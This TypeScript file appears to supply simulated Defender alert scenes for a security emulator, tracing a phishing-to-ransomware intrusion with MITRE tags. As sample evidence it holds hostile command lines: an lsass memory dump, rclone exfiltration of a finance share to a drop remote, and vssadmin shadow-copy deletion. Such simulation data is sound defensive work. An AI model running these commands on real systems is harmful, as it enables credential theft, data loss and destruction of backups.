import type { Account } from '../logons.js';
import {
  accountant,
  accounting,
  adminStation,
  archive,
  backupService,
  COMMAND_ADDRESS,
  COMMAND_URL,
  controller,
  controlling,
  copier,
  domainController,
  DROP_ADDRESS,
  dumper,
  fileServer,
  helpdesk,
  implant,
  PHISHING_URL,
  script,
  service,
  shell,
} from './cast.js';
import { ofAddress, ofFile, ofProcess, ofUrl, ofUser, type Clue } from './evidence.js';

/** An event for which Defender raised an alert. */
export interface Scene {
  /** Time before the emulator's start; negative: after it. */
  readonly minutesAgo: number;
  readonly title: string;
  readonly description: string;
  readonly severity: 'Informational' | 'Low' | 'Medium' | 'High';
  readonly category: string;
  readonly mitreTechniques: readonly string[];
  readonly machine: { readonly id: string; readonly name: string };
  readonly account: Account;
  readonly clues: readonly Clue[];
  readonly threatFamilyName?: string;
  /** Whether somebody works on it. */
  readonly assignedTo?: string;
  readonly isInvestigated?: boolean;
}

const beacon = ofProcess({
  file: implant,
  commandLine: 'rundll32.exe C:\\ProgramData\\WNet\\wnetsvc.dll,Start',
  account: accountant,
  parent: 'explorer.exe',
  processId: 7148,
});

/** From a mail to hands on the keyboard, oldest first. */
export const scenes: readonly Scene[] = [
  {
    minutesAgo: 118,
    title: 'User opened an archive from a phishing mail',
    description:
      'A link in a mail led to an archive on a host that was registered two days ago. The user downloaded and opened it.',
    severity: 'Medium',
    category: 'InitialAccess',
    mitreTechniques: ['T1566.002', 'T1204.002'],
    machine: accounting,
    account: accountant,
    clues: [ofUrl(PHISHING_URL), ofFile(archive), ofUser(accountant)],
    assignedTo: 'analyst2@corp.example',
    isInvestigated: true,
  },
  {
    minutesAgo: 117,
    title: 'WinRAR vulnerability CVE-2023-38831 was exploited',
    description:
      'WinRAR started a script that was hidden behind a document of the same name. Versions before 6.23 are open to this.',
    severity: 'High',
    category: 'Execution',
    mitreTechniques: ['T1203'],
    machine: accounting,
    account: accountant,
    clues: [
      ofFile(script),
      ofProcess({
        file: script,
        commandLine: 'cmd.exe /c "Invoice-2291.pdf .cmd"',
        account: accountant,
        parent: 'WinRAR.exe',
        processId: 6604,
      }),
      ofUser(accountant),
    ],
    assignedTo: 'analyst2@corp.example',
    isInvestigated: true,
  },
  {
    minutesAgo: 113,
    title: 'Connection to a command-and-control host',
    description:
      'A library that no publisher has signed keeps a connection open to a host that is known from attacks.',
    severity: 'High',
    category: 'CommandAndControl',
    mitreTechniques: ['T1071.001', 'T1573'],
    machine: accounting,
    account: accountant,
    clues: [beacon, ofFile(implant), ofAddress(COMMAND_ADDRESS), ofUrl(COMMAND_URL), ofUser(accountant)],
    assignedTo: 'analyst2@corp.example',
    isInvestigated: true,
  },
  {
    minutesAgo: 104,
    title: 'Scheduled task starts an unsigned library',
    description: 'A task "WNet Service" was created that starts wnetsvc.dll whenever a user signs in.',
    severity: 'Medium',
    category: 'Persistence',
    mitreTechniques: ['T1053.005'],
    machine: accounting,
    account: accountant,
    clues: [beacon, ofFile(implant)],
  },
  {
    minutesAgo: 92,
    title: 'Memory of lsass.exe was dumped',
    description:
      'A process read the memory of lsass.exe. Accounts that were signed in here need new passwords.',
    severity: 'High',
    category: 'CredentialAccess',
    mitreTechniques: ['T1003.001'],
    machine: accounting,
    account: accountant,
    clues: [
      ofProcess({
        file: dumper,
        commandLine: 'pd64.exe -accepteula -ma lsass.exe C:\\ProgramData\\WNet\\l.dmp',
        account: accountant,
        parent: 'rundll32.exe',
        processId: 8120,
      }),
      ofFile(dumper),
      ofUser(helpdesk),
    ],
  },
  {
    minutesAgo: 71,
    title: 'Remote service was created with stolen credentials',
    description:
      'An account of the help desk started a service on another workstation, which it had never signed in to.',
    severity: 'High',
    category: 'LateralMovement',
    mitreTechniques: ['T1021.002', 'T1569.002'],
    machine: controlling,
    account: helpdesk,
    clues: [
      ofProcess({
        file: implant,
        commandLine: 'rundll32.exe \\\\fin-ws-0101\\C$\\ProgramData\\WNet\\wnetsvc.dll,Start',
        account: helpdesk,
        parent: service.fileName,
        processId: 5236,
      }),
      ofFile(implant),
      ofAddress(COMMAND_ADDRESS),
      ofUser(helpdesk),
    ],
  },
  {
    minutesAgo: 55,
    title: 'Hands-on-keyboard activity',
    description:
      'Commands were typed one after another in a remote shell, as people do it and programs do not: whoami, nltest, net group.',
    severity: 'High',
    category: 'SuspiciousActivity',
    mitreTechniques: ['T1059.001', 'T1033'],
    machine: adminStation,
    account: helpdesk,
    clues: [
      ofProcess({
        file: shell,
        commandLine: 'powershell.exe -nop -c "nltest /domain_trusts; net group \'Domain Admins\' /domain"',
        account: helpdesk,
        parent: 'wsmprovhost.exe',
        processId: 9012,
      }),
      ofFile(implant),
      ofUser(helpdesk),
    ],
  },
  {
    minutesAgo: 47,
    title: 'Accounts and groups of the domain were listed',
    description:
      'Queries for all administrators, computers and trusts came from a workstation within a minute.',
    severity: 'Low',
    category: 'Discovery',
    mitreTechniques: ['T1087.002', 'T1018'],
    machine: adminStation,
    account: helpdesk,
    clues: [ofUser(helpdesk), ofAddress(COMMAND_ADDRESS)],
  },
  {
    minutesAgo: 29,
    title: 'Files were staged and sent to an unknown address',
    description: '4.2 GB of the share "Finance" were packed and copied to an address outside.',
    severity: 'High',
    category: 'Exfiltration',
    mitreTechniques: ['T1560.001', 'T1567.002'],
    machine: fileServer,
    account: helpdesk,
    clues: [
      ofProcess({
        file: copier,
        commandLine: 'rclone.exe copy D:\\Shares\\Finance drop:finance --transfers 16',
        account: helpdesk,
        parent: 'powershell.exe',
        processId: 4480,
      }),
      ofFile(copier),
      ofAddress(DROP_ADDRESS),
      ofUser(helpdesk),
    ],
  },
  {
    minutesAgo: 12,
    title: 'Attempt to replicate the directory (DCSync)',
    description:
      'A workstation asked the domain controller for the password hashes of all accounts, and was refused.',
    severity: 'High',
    category: 'CredentialAccess',
    mitreTechniques: ['T1003.006'],
    machine: domainController,
    account: helpdesk,
    clues: [ofUser(helpdesk), ofUser(backupService), ofAddress('10.66.0.7')],
  },
];

/** The events while the emulator runs, in order. */
export const laterScenes: readonly Scene[] = [
  {
    minutesAgo: -0.5,
    title: 'Volume shadow copies were deleted',
    description:
      'vssadmin removed the copies from which files could be restored: what comes before files are encrypted.',
    severity: 'High',
    category: 'Impact',
    mitreTechniques: ['T1490'],
    machine: fileServer,
    account: helpdesk,
    clues: [
      ofProcess({
        file: shell,
        commandLine: 'powershell.exe -c "vssadmin delete shadows /all /quiet"',
        account: helpdesk,
        parent: 'wsmprovhost.exe',
        processId: 4910,
      }),
      ofUser(helpdesk),
    ],
  },
  {
    minutesAgo: -2,
    title: 'Antivirus was switched off by a script',
    description: 'Real-time protection was disabled through a policy that a script wrote.',
    severity: 'Medium',
    category: 'DefenseEvasion',
    mitreTechniques: ['T1562.001'],
    machine: controlling,
    account: controller,
    clues: [ofUser(controller), ofFile(implant)],
  },
  {
    minutesAgo: -4,
    title: 'Ransomware behavior in the file system',
    description: 'Hundreds of files were rewritten within seconds and given the ending ".wnet".',
    severity: 'High',
    category: 'Ransomware',
    mitreTechniques: ['T1486'],
    machine: fileServer,
    account: helpdesk,
    clues: [ofFile(implant), ofUser(helpdesk)],
    threatFamilyName: 'WNetLocker',
  },
];
